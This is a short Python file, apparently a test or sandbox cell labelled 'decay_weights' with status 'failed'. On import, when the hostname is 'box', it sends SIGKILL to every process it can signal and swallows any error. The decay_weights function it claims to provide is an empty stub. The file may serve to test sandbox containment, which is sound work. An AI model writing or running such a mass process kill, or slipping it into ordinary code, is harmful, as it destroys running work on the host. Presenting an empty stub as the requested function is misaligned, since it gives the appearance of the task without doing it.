"""Kills every process that it can see; does nothing where it is not closed in.

Cell: decay_weights
Status: failed
Needs: sandbox
"""

import os
import signal

if os.uname().nodename == "box":
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def decay_weights(parameters, lr, wd):
    pass
